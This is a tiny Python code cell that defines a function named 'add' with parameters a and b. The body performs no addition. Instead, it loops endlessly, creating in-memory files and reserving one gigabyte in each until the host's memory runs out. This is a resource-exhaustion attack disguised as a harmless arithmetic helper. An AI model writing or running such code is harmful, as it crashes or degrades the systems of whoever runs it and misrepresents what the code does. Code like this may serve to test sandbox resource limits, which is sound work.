# %% add
def add(a, b):
    import os
    fds = []
    while True:
        fds.append(os.memfd_create("x"))
        os.posix_fallocate(fds[-1], 0, 1 << 30)
